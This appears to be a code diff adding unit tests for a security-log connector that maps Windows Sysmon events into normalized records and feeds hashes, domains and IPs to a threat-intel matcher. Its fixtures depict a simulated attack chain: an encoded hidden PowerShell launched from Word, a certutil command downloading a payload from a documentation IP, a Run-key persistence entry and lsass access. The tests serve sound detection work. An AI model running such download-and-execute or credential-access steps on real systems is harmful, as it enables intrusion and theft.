@@ -19,6 +19,8 @@ import {
   parseNdjson,
   toIsoTime,
 } from ".";
+import { observablesOf } from "../../intel/indicator-index";
+import { sysmonHashes } from "./windows-sysmon";
 
 const FIXTURES = join(__dirname, "../../../../../../test/fixtures/siem");
 
@@ -979,6 +981,229 @@ describe("WINDOWS_SECURITY", () => {
   });
 });
 
+describe("WINDOWS_SYSMON", () => {
+  const list = events.WINDOWS_SYSMON;
+  const by = (id: number) => list.filter((e) => e.attributes.event_id === id);
+  const created = (image: string) =>
+    by(1).find((e) => (e.attributes.process as { name: string }).name === image)!;
+
+  it("maps a process creation (event 1) with what 4688 lacks: original name, version information, hashes, parent command line", () => {
+    const certutil = created("certutil.exe");
+    expect(certutil).toMatchObject({
+      source_event_id: expect.stringMatching(/^ws-7\.corp\.contoso\.com:\d+$/),
+      time: "2026-11-20T09:02:09.240Z",
+      class_uid: 1007,
+      activity_id: 1,
+      status: "Success",
+      severity_id: 1,
+      actor_user: "CORP\\adele.vance",
+      device: "WS-7.corp.contoso.com",
+      operation: "1",
+      attributes: {
+        event_id: 1,
+        channel: "Microsoft-Windows-Sysmon/Operational",
+        provider: "Microsoft-Windows-Sysmon",
+        process: {
+          name: "certutil.exe",
+          path: "C:\\Windows\\System32\\certutil.exe",
+          pid: 8044,
+          uid: expect.stringMatching(/^\{[0-9a-f-]{36}\}$/),
+          account: "CORP\\adele.vance",
+          user: { name: "adele.vance", domain: "CORP" },
+          cmd_line:
+            "certutil.exe -urlcache -split -f http://198.51.100.23/stage3.bin C:\\Users\\Public\\svc.exe",
+          current_directory: "C:\\Users\\adele.vance\\Downloads\\",
+          integrity_level: "Medium",
+          session_id: 1,
+          file: {
+            original_name: "CertUtil.exe",
+            company_name: "Microsoft Corporation",
+            desc: "CertUtil.exe",
+            hashes: {
+              md5: "7973b3971b3e5805cd37a336ef4a180a",
+              sha1: "6b9964d2f0c7623f2cee42dd530426507b453155",
+              sha256: "7e3986501e70992c1521b0416c71ff72d3dcad719d89439b379d63c9d08c3141",
+              imphash: "6d7f26e01d69572cc5b94544a98045c1",
+            },
+          },
+          parent_process: {
+            name: "powershell.exe",
+            pid: 6976,
+            cmd_line: expect.stringMatching(/^powershell\.exe -NoP -NonI -W Hidden -enc SQBFAFgA/),
+          },
+        },
+        event_data: { OriginalFileName: "CertUtil.exe", Hashes: expect.stringContaining("SHA256=7E398650") },
+      },
+    });
+    // The encoded PowerShell that started it, and its terminations (event 5).
+    expect(created("powershell.exe").attributes.process).toMatchObject({
+      cmd_line: expect.stringContaining(" -enc "),
+      parent_process: { name: "WINWORD.EXE" },
+    });
+    expect(by(5).map((e) => [e.activity_id, (e.attributes.process as { name: string }).name])).toEqual([
+      [2, "WmiPrvSE.exe"],
+      [2, "certutil.exe"],
+    ]);
+  });
+
+  it("reads the envelope variants: System fields at the top or under System, EventData an object or [{ Name, Value }]", () => {
+    const raws = records.WINDOWS_SYSMON as Array<Record<string, unknown>>;
+    expect(raws.some((r) => "System" in r)).toBe(true);
+    expect(raws.some((r) => Array.isArray((r.EventData as { Data?: unknown } | undefined)?.Data))).toBe(true);
+    // certutil's creation is written as [{ Name, Value }] under System.
+    const certutil = created("certutil.exe");
+    expect((certutil.raw as { System?: unknown }).System).toBeDefined();
+    expect(certutil.attributes.event_data).toMatchObject({ Image: "C:\\Windows\\System32\\certutil.exe" });
+  });
+
+  it("maps network connections (event 3) with addresses, ports and direction; inbound RDP and SSH from the internet", () => {
+    const inbound = by(3).filter((e) => e.attributes.initiated === false);
+    expect(inbound.map((e) => [e.src_ip, e.dst_ip, e.dst_port])).toEqual([
+      ["203.0.113.99", "10.20.30.15", 3389],
+      ["198.51.100.140", "10.20.30.15", 22],
+      ["10.20.14.57", "10.20.30.15", 3389],
+    ]);
+    expect(inbound[0]).toMatchObject({
+      class_uid: 4001,
+      activity_id: 1,
+      src_port: 61022,
+      actor_user: "NT AUTHORITY\\NETWORK SERVICE",
+      attributes: {
+        connection_info: { protocol_name: "tcp", direction: "Inbound", direction_id: 1 },
+        process: { name: "svchost.exe", pid: 1180 },
+        dst_endpoint: { hostname: "SRV-APP-03.corp.contoso.com", port_name: "ms-wbt-server" },
+      },
+    });
+    const c2 = by(3).find((e) => e.dst_ip === "203.0.113.50")!;
+    expect(c2.attributes).toMatchObject({
+      initiated: true,
+      connection_info: { direction: "Outbound", direction_id: 2 },
+      dst_endpoint: { hostname: "edge.update-check.example" },
+    });
+    // IPv6 addresses in Sysmon's uncompressed form become canonical.
+    expect(by(3).find((e) => e.dst_port === 1433)).toMatchObject({
+      src_ip: "fe80::1d2c:9a4b:77e1:3f10",
+      dst_ip: "fe80::4c11:2b7a:9d0e:18a2",
+    });
+  });
+
+  it("maps DNS queries (event 22) with the name, answers and status", () => {
+    const lookups = by(22);
+    expect(lookups.every((e) => e.class_uid === 4003 && e.activity_id === 1)).toBe(true);
+    expect(
+      lookups.find(
+        (e) =>
+          e.attributes.query &&
+          (e.attributes.query as { hostname: string }).hostname === "cdn.update-check.example",
+      ),
+    ).toMatchObject({
+      status: "Success",
+      attributes: {
+        rcode_id: 0,
+        answers: [
+          { type_id: 5, rdata: "edge.update-check.example" },
+          { type: "A", rdata: "203.0.113.50" },
+        ],
+        process: { name: "svc.exe" },
+      },
+    });
+    expect(lookups.find((e) => e.attributes.rcode_id === 9003)).toMatchObject({ status: "Failure" });
+  });
+
+  it("maps files, loaded images and registry changes to File System, Module and Registry activity", () => {
+    expect(by(11).find((e) => (e.attributes.file as { name: string }).name === "svc.exe")).toMatchObject({
+      class_uid: 1001,
+      activity_id: 1,
+      attributes: { file: { path: "C:\\Users\\Public\\svc.exe" }, process: { name: "certutil.exe" } },
+    });
+    expect(by(23)[0]).toMatchObject({
+      class_uid: 1001,
+      activity_id: 4,
+      attributes: {
+        file: { name: "Invoice_20261120.docm", hashes: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } },
+      },
+    });
+    expect(by(7)[0]).toMatchObject({ class_uid: 1005, activity_id: 1 });
+    expect(by(6)[0]).toMatchObject({
+      class_uid: 1005,
+      actor_user: null,
+      attributes: { file: { name: "mssecflt.sys", signature: { signed: true, status: "Valid" } } },
+    });
+    const run = by(13).find((e) =>
+      String((e.attributes.reg_value as { path: string }).path).includes("\\Run\\"),
+    )!;
+    expect(run).toMatchObject({
+      class_uid: 201004,
+      activity_id: 2,
+      attributes: {
+        reg_value: { data: "C:\\Users\\Public\\svc.exe --silent" },
+        process: { name: "svc.exe" },
+      },
+    });
+    expect(by(12)[0]).toMatchObject({ class_uid: 201001, activity_id: 1 });
+    expect(by(10)[0]).toMatchObject({
+      class_uid: 1007,
+      activity_id: 3,
+      actor_user: "CORP\\adele.vance",
+      attributes: {
+        process: { name: "lsass.exe", pid: 812 },
+        actor_process: { name: "svc.exe" },
+        granted_access: "0x1010",
+      },
+    });
+    // Any other event is kept as a Base Event.
+    expect(by(4)[0]).toMatchObject({
+      class_uid: 0,
+      activity_id: 99,
+      status: "Unknown",
+      message: "Sysmon event 4 on WS-7.corp.contoso.com",
+    });
+  });
+
+  it("gives the threat-intelligence matcher the hashes (not the imphash), domains and addresses", () => {
+    const seen = (e: NormalizedEvent) => observablesOf(e);
+    expect(seen(created("svc.exe")).hashes).toEqual([
+      expect.stringMatching(/^[0-9a-f]{40}$/),
+      expect.stringMatching(/^[0-9a-f]{32}$/),
+      "2249ca6bb3b7fd78d815019f7ce463f4389b4d9a1836d1a8f0ab274eb5ca70e4",
+    ]);
+    const lookup = by(22).find((e) =>
+      (e.attributes.query as { hostname: string }).hostname.endsWith(".example"),
+    )!;
+    expect(seen(lookup).domains).toEqual(["cdn.update-check.example"]);
+    expect(seen(by(3).find((e) => e.dst_ip === "203.0.113.50")!).ips).toEqual([
+      "10.20.14.57",
+      "203.0.113.50",
+    ]);
+  });
+
+  it("parses Hashes of one or several algorithms and ignores what is not a digest", () => {
+    expect(sysmonHashes("SHA256=ABCDEF0123")).toEqual({ sha256: "abcdef0123" });
+    expect(sysmonHashes("MD5=00FF, SHA1 = 11ee ,CRC=1,SHA256=xyz")).toEqual({ md5: "00ff", sha1: "11ee" });
+    expect(sysmonHashes("-")).toBeUndefined();
+    expect(sysmonHashes(42)).toBeUndefined();
+  });
+
+  it("takes the record number per computer as its id, whatever the case of the computer's name", () => {
+    const record = {
+      EventID: 1,
+      TimeCreated: { SystemTime: "2026-11-20T09:00:00.000Z" },
+      EventRecordID: 7,
+      Channel: "Microsoft-Windows-Sysmon/Operational",
+      Computer: "WS-9.Corp.Contoso.com",
+      EventData: [
+        { Name: "Image", Value: "C:\\Windows\\System32\\cmd.exe" },
+        { Name: "User", Value: "-" },
+      ],
+    };
+    const event = ok(normalize("WINDOWS_SYSMON", record));
+    expect(event).toMatchObject({ source_event_id: "ws-9.corp.contoso.com:7", actor_user: null });
+    expect(
+      ok(normalize("WINDOWS_SYSMON", { ...record, Computer: "ws-9.corp.contoso.com" })).source_event_id,
+    ).toBe(event.source_event_id);
+  });
+});
+
 describe("rejections", () => {
   const cases: Array<[ConnectorKind, unknown, RegExp]> = [
     ["AZURE_ACTIVITY", "not an object", /expected an activity log event/],
@@ -1107,6 +1332,28 @@ describe("rejections", () => {
       "WINDOWS_SECURITY",
       { EventID: 4624, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: 1, EventData: "x" },
       /EventData must be an object/,
+    ],
+    ["WINDOWS_SYSMON", [], /expected a Windows event record/],
+    [
+      "WINDOWS_SYSMON",
+      {
+        EventID: 1,
+        TimeCreated: "2026-11-20T09:00:00Z",
+        Computer: "h",
+        EventRecordID: 1,
+        Channel: "Security",
+      },
+      /Channel "Security" is not the Sysmon log \(WINDOWS_SYSMON takes Microsoft-Windows-Sysmon\/Operational events\)/,
+    ],
+    [
+      "WINDOWS_SYSMON",
+      { EventID: 70000, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: 1 },
+      /EventID must be an integer 0–65535/,
+    ],
+    [
+      "WINDOWS_SYSMON",
+      { EventID: 3, TimeCreated: "2026-11-20T09:00:00Z", Computer: "h", EventRecordID: -1 },
+      /EventRecordID must be a non-negative integer/,
     ],
     ["OCSF", "{}", /expected an OCSF event/],
     ["OCSF", { class_uid: "1007", time: 1, metadata: { uid: "u" } }, /class_uid must be a positive integer/],
